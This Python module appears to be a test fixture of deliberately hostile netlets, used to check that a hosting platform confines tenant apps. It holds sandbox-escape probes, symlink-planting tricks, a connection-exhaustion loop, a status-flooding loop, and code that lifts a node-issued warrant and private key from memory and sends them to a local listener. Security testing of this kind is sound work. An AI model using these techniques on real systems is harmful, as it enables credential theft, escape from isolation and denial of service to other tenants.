"""A hostile netlet: at start it tries to reach what a confined netlet must not, and publishes
what happened to each attempt (``probes``), next to what it must still be able to do (``own``).

Params (``|``-separated): ``read`` files to read, ``list`` directories to list, ``signal`` pids
to send SIGCONT (harmless if it arrives, but it proves the netlet could send SIGKILL as well),
``chmod`` files to make world-readable (by path, and through a descriptor opened read-only),
``raw`` = "1" to open packet and raw sockets (what sniffing loopback needs),
``escape`` = "1" to leave a detached process behind (double fork, own session) that sleeps;
``plant`` = a directory: the first run replaces its ``data`` resource by a link to it and
crashes, so the next incarnation starts with that link in its slot.
"""

import os
import socket
import threading
import signal
import tempfile
import time
from pathlib import Path

from netlets import Bootstrap
from netlets.netlet import Netlet, query


def attempt(action) -> str:
    try:
        action()
        return "ok"
    except OSError as err:
        return f"denied: {type(err).__name__}"


def _read(path: str) -> None:
    with open(path, "rb") as f:
        f.read(1)


def probe(config: dict) -> dict:
    items = lambda key: [x for x in config.get(key, "").split("|") if x]  # noqa: E731
    out = {f"read {p}": attempt(lambda p=p: _read(p)) for p in items("read")}
    out.update({f"list {p}": attempt(lambda p=p: os.listdir(p)) for p in items("list")})
    out.update({f"signal {pid}": attempt(lambda pid=pid: os.kill(int(pid), signal.SIGCONT))
                for pid in items("signal")})
    for p in items("chmod"):
        out[f"chmod {p}"] = attempt(lambda p=p: os.chmod(p, 0o644))
        out[f"fchmod {p}"] = attempt(lambda p=p: _fchmod(p, 0o644))
    if config.get("raw") == "1":
        for name, args in RAW_SOCKETS.items():
            out[f"socket {name}"] = attempt(lambda args=args: socket.socket(*args).close())
    return out


#: sockets that see or forge other processes' traffic (loopback included)
RAW_SOCKETS = {"AF_PACKET": (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)),
               "AF_PACKET dgram": (socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003)),
               "AF_INET SOCK_RAW": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
               "AF_INET6 SOCK_RAW": (socket.AF_INET6, socket.SOCK_RAW | socket.SOCK_CLOEXEC, socket.IPPROTO_TCP),
               "AF_INET SOCK_PACKET": (socket.AF_INET, 10, socket.htons(0x0003))}


def _fchmod(path: str, mode: int) -> None:
    fd = os.open(path, os.O_RDONLY)
    try:
        os.fchmod(fd, mode)
    finally:
        os.close(fd)


def privileges() -> dict:
    """This process's uid/gid and capability sets (``/proc/self/status``), as the kernel sees them."""
    with open("/proc/self/status") as f:
        fields = dict(line.split(":", 1) for line in f if ":" in line)
    out = {k: fields[k].strip() for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")}
    out["uids"], out["gids"] = fields["Uid"].split(), fields["Gid"].split()
    return out


def leave_escapee() -> int:
    """A grandchild in its own session, outside the netlet's process group; returns its pid."""
    r, w = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.write(w, str(os.getpid()).encode())
            time.sleep(3600)
        os._exit(0)
    os.close(w)
    pid = int(os.read(r, 32))
    os.close(r)
    os.wait()
    return pid


class Prober(Netlet):
    def on_started(self, inherited):
        data = self.resources["data"]
        plant = self.config.get("plant")
        if plant and not data.is_symlink():  # first run: leave a link for the next incarnation, crash
            os.rename(data, data.with_name("data.old"))
            data.symlink_to(plant)
            os._exit(3)
        with tempfile.NamedTemporaryFile(prefix="probe-") as tmp:
            own = {"write data": attempt(lambda: (data / "mine").write_text("x")),
                   "read own code": attempt(lambda: _read(__file__)),
                   "tmpdir": os.path.dirname(tmp.name), "uid": os.getuid(),
                   "fchmod own file 0600": attempt(lambda: _fchmod(str(data / "mine"), 0o600)),
                   "privileges": privileges()}
        escapee = leave_escapee() if self.config.get("escape") == "1" else None
        self.publish(probes=probe(self.config), own=own, escapee=escapee)

    @query
    def ping(self):
        return "pong"


class SwapSlot(Bootstrap):
    """A hostile bootstrap (cwd: the app directory): tries to make the slot directory of
    ``probe/0`` a link to the node's home before the node starts it there, then starts it."""

    def run(self, ctx):
        try:
            (Path.cwd() / "slots").mkdir(exist_ok=True)
            (Path.cwd() / "slots" / "probe-0").symlink_to(Path.cwd().parent.parent)
        except OSError:
            pass  # confined: start the netlet anyway, it must find nothing open
        ctx.run_netlet("probe/0")
        ctx.wait_running(["probe/0"], timeout=15)


def start_document() -> dict:
    """This netlet's start document, as app code can find it in its own process (the runner
    holds it): nothing in it is secret from the app."""
    import gc

    return next(o.raw for o in gc.get_objects() if type(o).__name__ == "StartDocument")


def open_door(host: str, port: int, handshake: dict) -> tuple[socket.socket | None, str]:
    """One connection to the node whose first message carries ``handshake``; (socket, "ok") if
    the node established it, (None, why) if it refused it."""
    import msgpack
    from Pyro5 import protocol

    data = msgpack.packb({"handshake": handshake, "object": "jtrix.hosting"}, use_bin_type=True)
    s = socket.create_connection((host, port), timeout=10)
    try:
        s.sendall(protocol.SendingMessage(protocol.MSG_CONNECT, 0, 1, 4, data).data)
        header = b""
        while len(header) < protocol._header_size:
            chunk = s.recv(protocol._header_size - len(header))
            if not chunk:
                raise ConnectionError("closed")
            header += chunk
        msg = protocol.ReceivingMessage(header)
        body = b""
        while len(body) < msg.data_size + msg.annotations_size:
            body += s.recv(msg.data_size + msg.annotations_size - len(body))
        if msg.type == protocol.MSG_CONNECTOK:
            return s, "ok"
        reason = msgpack.unpackb(body[msg.annotations_size:], raw=False)
    except (OSError, ConnectionError) as err:
        reason = f"{type(err).__name__}"
    s.close()
    return None, str(reason)


class DoorHog(Netlet):
    """Takes its node's connection capacity with its own door key (what its runner proves the
    netlet with): keeps up to ``connections`` open, opening more as the node cuts idle ones,
    and publishes how many it holds and why the others were refused (``hog``)."""

    def on_started(self, inherited):
        from rpc.credential import door_handshake

        doc = start_document()
        host, port = doc["node_uri"].rsplit("@", 1)[1].rsplit(":", 1)
        door, want = doc["node_door"], int(self.config.get("connections", "600"))
        if isinstance(door, str):  # a node before per-netlet door keys: one key for every netlet
            from rpc.credential import CLIENT, NODE, make_handshake
            proof = lambda: make_handshake(bytes.fromhex(door), "jtrix/own-netlets", CLIENT, NODE)  # noqa: E731
        else:
            key = bytes.fromhex(door["key"])
            proof = lambda: door_handshake(key, door["holder"])  # noqa: E731
            self.publish(door=door)  # the attacker's own: the test stands for what it left behind
        self._held: list = []
        refused: dict[str, int] = {}

        def hog() -> None:
            while True:
                self._held = [s for s in self._held if not _closed(s)]
                while len(self._held) < want:
                    s, why = open_door(host, int(port), proof())
                    if s is None:
                        refused[why] = refused.get(why, 0) + 1
                        break
                    self._held.append(s)
                self.publish(hog={"held": len(self._held), "refused": dict(refused), "tries": want})
                time.sleep(0.2)  # the attacker's pace

        threading.Thread(target=hog, daemon=True).start()

    @query
    def ping(self):
        return "pong"


def _closed(s: socket.socket) -> bool:
    """The node shut ``s`` down (it reads EOF)."""
    import select

    if not select.select([s], [], [], 0)[0]:
        return False
    try:
        if s.recv(1, socket.MSG_PEEK) == b"":
            s.close()
            return True
    except OSError:
        s.close()
        return True
    return False


class Exfil(Netlet):
    """Publishes its own node-issued warrant and key, as hostile code could send them anywhere."""

    def on_started(self, inherited):
        doc = start_document()
        self.publish(warrant=doc["warrant"], key_pem=doc["key_pem"], netlet_id=doc["netlet_id"])


class Writer(Netlet):
    """Another tenant's app: keeps a confidential file in its data directory."""

    def on_started(self, inherited):
        (self.resources["data"] / "customer-db").write_text("confidential")
        self.publish(wrote=True)


class Reader(Netlet):
    """Publishes what it finds in its data directory."""

    def on_started(self, inherited):
        data = self.resources["data"]
        self.publish(found={p.name: p.read_text()[:100] for p in data.iterdir() if p.is_file()})


class Thief(Bootstrap):
    """A hostile bootstrap: sends its node-issued warrant and key to the listener whose port is in
    ``port.txt`` of its codebase, waits until the listener closes, then starts every slot."""

    def run(self, ctx):
        import json

        from warrants import private_key_pem

        client = ctx._call.__self__  # the runner's HostingClient: warrant + holder key
        port = int((Path(__file__).parent / "port.txt").read_text())
        with socket.create_connection(("127.0.0.1", port)) as s:
            s.sendall(json.dumps({"warrant": client.warrant_xml.decode(),
                                  "key_pem": private_key_pem(client.key).decode()}).encode())
            s.shutdown(socket.SHUT_WR)
            s.settimeout(120)
            while s.recv(1024):
                pass
        super().run(ctx)


class StatusBloat(Netlet):
    """Reports its own status ``reports`` times through its node-issued warrant (found in its
    own process), each time with new invented keys and an oversized ``app_status`` (~``kb`` KB
    each), then publishes how many the node took (``bloat``)."""

    def on_started(self, inherited):
        threading.Thread(target=self._bloat, daemon=True).start()

    def _bloat(self):
        import gc

        doc = next(o for o in gc.get_objects() if type(o).__name__ == "StartDocument")
        client = doc.client()
        reports, kb = int(self.config.get("reports", "20")), int(self.config.get("kb", "200"))
        sent, error = 0, None
        for i in range(reports):
            junk = {f"k{i}_{j}": "x" * 1000 for j in range(kb // 2)}
            junk["app_status"] = {f"a{j}": "y" * 1000 for j in range(kb // 2)}
            try:
                client.call("report", doc.netlet_id, junk)
                sent += 1
            except Exception as err:  # noqa: BLE001  (the refusal is the result)
                error = str(err)[:200]
                break
        self.publish(bloat={"sent": sent, "error": error})
